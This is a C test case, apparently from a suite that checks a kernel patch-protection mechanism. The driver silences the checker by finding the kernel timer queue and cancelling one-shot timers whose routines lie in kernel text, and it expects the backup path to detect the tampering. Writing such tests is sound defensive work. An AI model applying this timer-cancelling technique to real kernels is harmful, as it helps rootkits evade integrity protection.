/* attack_a15 (A15): find PatchGuard's timer and cancel it. The driver arms
 * a probe timer far in the future, finds the kernel's timer queue head by a
 * pointer scan of the kernel's data (the probe must be reachable from it),
 * walks the queue and cancels every one-shot timer whose DPC routine lies
 * in kernel text: no driver owns those, so one of them is the checker's.
 * Expected: the other path notices the missed heartbeat, 0x109 type 0x101. */
#include "attack.h"

#define PROBE_DELAY_NS (3600ull * 1000000000ull)

static struct ktimer probe;
static struct dpc probe_dpc;
static void probe_fn(struct dpc *d, void *ctx) {}

status_t driver_entry(struct driver_object *drv)
{
	struct ktimer *found[8];
	dpc_init(&probe_dpc, probe_fn, NULL);
	timer_init(&probe, &probe_dpc);
	timer_set(&probe, PROBE_DELAY_NS, 0);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	uint64_t f = a_cli();
	int n = a_kernel_timers(&probe, 0, found, 8);
	for (int i = 0; i < n; i++)
		timer_cancel(found[i]);
	a_restore(f);
	timer_cancel(&probe);
	if (n <= 0) {
		printk("attack_a15: no one-shot kernel timer found\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	printk("attack_a15: walked the timer queue, cancelled %d one-shot kernel timer(s)\n", n);
	a_patched("attack_a15");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
